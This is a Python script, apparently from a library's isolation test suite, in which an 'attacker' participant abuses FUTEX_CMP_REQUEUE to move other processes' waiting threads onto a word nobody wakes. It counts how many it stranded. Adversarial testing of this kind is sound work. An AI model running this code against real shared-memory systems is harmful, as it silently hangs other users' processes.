"""Moves the sleepers of other processes away with FUTEX_CMP_REQUEUE: steal_wakeups.py TOPIC

Tries every word of all memory that it was given, on and on, and says how many it moved.
"""

from __future__ import annotations

import ctypes
import sys
import time

from attacker import FUTEX_CMP_REQUEUE, PAGE, SYS_FUTEX, hear, libc, mappings, say
from victim import NUMBERS

import plib_py
from plib_py._native import lib

SECONDS = 2.0


def words() -> list[int]:
    """Return the addresses of words that somebody may sleep on, but its own bells.

    Who moves sleepers away from its own bells keeps nothing from them but what it publishes itself.
    """
    found = []
    for each in mappings():
        if each.writable:
            continue
        size = min(each.size, 64 * PAGE)
        content = ctypes.string_at(each.start, size)
        for page in range(0, size, PAGE):
            if any(content[page : page + PAGE]):
                found += range(each.start + page, each.start + page + PAGE, 4)
        if each.size == lib.PLIB_PEER_SIZE:
            for first in (each.start, each.start + lib.PLIB_PEER_LINKS):  # bells, cursors
                found += range(first, first + PAGE, 4)
    return found


def steal(word: int, prison: int) -> int:
    """Move all sleepers of a word to another that nobody wakes; return how many."""
    value = ctypes.c_uint32.from_address(word).value
    moved = libc.syscall(
        SYS_FUTEX,
        ctypes.c_void_p(word),
        FUTEX_CMP_REQUEUE,
        0,
        ctypes.c_long(1 << 20),
        ctypes.c_void_p(prison),
        ctypes.c_uint32(value),
    )
    return max(0, moved)


def main() -> None:
    """Match with the victims, then steal."""
    topic = sys.argv[1]
    with plib_py.Participant("thief") as participant:
        publisher = participant.create_publisher(topic, NUMBERS)
        subscription = participant.create_subscription(topic, NUMBERS)
        assert publisher.wait_matched(2, timeout=60)
        assert subscription.wait_matched(2, timeout=60)
        shared = mappings()[0]
        prison = shared.end - 4
        candidates = words()
        say("at work")
        hear()
        moved = 0
        end = time.monotonic() + SECONDS
        while time.monotonic() < end:
            moved += sum(steal(word, prison) for word in candidates)
        say(moved)
        hear()


if __name__ == "__main__":
    main()
